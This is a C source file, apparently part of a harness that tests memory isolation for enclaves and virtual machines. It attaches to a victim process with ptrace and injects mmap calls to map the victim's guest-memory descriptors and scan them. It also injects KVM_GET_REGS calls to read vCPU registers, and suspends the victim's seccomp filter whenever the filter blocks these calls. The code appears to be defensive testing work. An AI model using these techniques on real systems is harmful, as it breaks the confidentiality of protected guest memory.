/* SPDX-License-Identifier: Apache-2.0
 *
 * Attacks that make the victim's own process do what only it may: map the enclave's memory, read a
 * vCPU's registers. First under its seccomp filter, then with the filter suspended.
 */
#include "attack.h"

#include <errno.h>
#include <linux/kvm.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <unistd.h>

#define DESCRIPTORS 64

/* The size of the memory behind a descriptor of the victim, 0 when it is something else. */
static uint64_t memory_size(pid_t pid, int number, const char *wanted[])
{
    char path[64], is[256];
    struct stat status;
    snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, number);
    ssize_t length = readlink(path, is, sizeof(is) - 1);
    is[length > 0 ? length : 0] = 0;
    for (; *wanted; wanted++)
        if (strstr(is, *wanted) && stat(path, &status) == 0)
            return status.st_size > 0 ? (uint64_t)status.st_size : 1;
    return 0;
}

static uint64_t map_all(struct trace *trace, struct pattern pattern, long *error)
{
    uint64_t cells = 0;
    for (int fd = 0; fd < DESCRIPTORS; fd++) {
        uint64_t size = memory_size(trace->pid, fd,
                                    (const char *[]){"memfd:", "kvm-gmem", "guest_memfd", NULL});
        if (size < 4096)
            continue;
        long at = trace_call(trace, SYS_mmap, 0, size, PROT_READ, MAP_SHARED, (uint64_t)fd, 0);
        if (at < 0 && at > -4096) {
            *error = at;
            continue;
        }
        cells += scan_range(pattern, read_memory_file, &trace->memory, (uint64_t)at, size);
        trace_call(trace, SYS_munmap, (uint64_t)at, size, 0, 0, 0, 0);
    }
    return cells;
}

void attack_inject_map(struct target *target, struct result *result)
{
    struct trace trace;
    long error = 0;
    if (!trace_start(&trace, target->pid)) {
        conclude(result, STOPPED, "PTRACE_SEIZE: %s", strerror(errno));
        return;
    }
    const char *how = "under its own seccomp filter";
    uint64_t cells = map_all(&trace, target->pattern, &error);
    if (!cells && trace_suspend_seccomp(&trace)) {
        how = "with its seccomp filter suspended";
        cells = map_all(&trace, target->pattern, &error);
    }
    trace_stop(&trace);
    if (cells)
        conclude(result, SUCCEEDS, "%llu cells, mapped %s", (unsigned long long)cells, how);
    else
        conclude(result, STOPPED, "injected mmap: %s",
                 error ? strerror((int)-error) : "nothing to map");
}

static bool read_vcpu(struct trace *trace, uint64_t scratch, struct kvm_regs *registers,
                      long *error)
{
    for (int fd = 0; fd < DESCRIPTORS; fd++) {
        if (!memory_size(trace->pid, fd, (const char *[]){"kvm-vcpu", NULL}))
            continue;
        *error = trace_call(trace, SYS_ioctl, (uint64_t)fd, KVM_GET_REGS, scratch, 0, 0, 0);
        if (*error == 0 && pread(trace->memory, registers, sizeof(*registers), (off_t)scratch) ==
                               sizeof(*registers))
            return true;
    }
    return false;
}

static void inject_vcpu(struct trace *trace, struct result *result)
{
    struct kvm_regs registers;
    long error = -ENOENT;
    long scratch = trace_call(trace, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE,
                              MAP_PRIVATE | MAP_ANONYMOUS, (uint64_t)-1, 0);
    const char *how = "under its own seccomp filter";
    if (scratch < 0) {
        conclude(result, STOPPED, "injected mmap: %s", strerror((int)-scratch));
        return;
    }
    bool read = read_vcpu(trace, (uint64_t)scratch, &registers, &error);
    if (!read && trace_suspend_seccomp(trace)) {
        how = "with its seccomp filter suspended";
        read = read_vcpu(trace, (uint64_t)scratch, &registers, &error);
    }
    if (read)
        conclude(result, SUCCEEDS, "KVM_GET_REGS %s: rip 0x%llx", how,
                 (unsigned long long)registers.rip);
    else
        conclude(result, STOPPED, "injected KVM_GET_REGS: %s", strerror((int)-error));
    trace_call(trace, SYS_munmap, (uint64_t)scratch, 4096, 0, 0, 0, 0);
}

void attack_inject_registers(struct target *target, struct result *result)
{
    struct trace trace;
    struct user_regs_struct registers;
    if (!trace_start(&trace, target->pid)) {
        conclude(result, STOPPED, "PTRACE_SEIZE: %s", strerror(errno));
        return;
    }
    if (target->kind == TARGET_VSM)
        inject_vcpu(&trace, result);
    else if (ptrace(PTRACE_GETREGS, target->pid, 0, &registers) == 0)
        conclude(result, SUCCEEDS, "PTRACE_GETREGS: rip 0x%llx", registers.rip);
    else
        conclude(result, STOPPED, "PTRACE_GETREGS: %s", strerror(errno));
    trace_stop(&trace);
}
